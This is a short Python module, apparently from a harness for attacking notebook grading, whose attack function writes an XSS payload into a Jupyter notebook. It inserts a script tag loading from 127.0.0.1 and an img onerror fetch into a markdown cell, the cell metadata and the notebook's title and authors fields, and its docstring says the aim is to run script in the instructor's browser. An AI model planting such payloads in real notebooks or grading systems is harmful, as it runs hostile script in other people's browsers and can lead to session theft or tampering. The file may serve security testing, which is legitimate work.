"""Puts scripts into text cells, outputs and metadata, to run in the instructor's browser."""
# Gets: still to do


def attack(notebook, cells, folder):
    script = f"<script src='http://127.0.0.1:{PORT}/'></script><img src=x onerror='fetch(\"//127.0.0.1:{PORT}\")'>"
    text = {"cell_type": "markdown", "source": script, "metadata": {"name": script}, "id": "script"}
    notebook["cells"].insert(0, text)
    notebook["metadata"]["title"] = notebook["metadata"]["authors"] = script
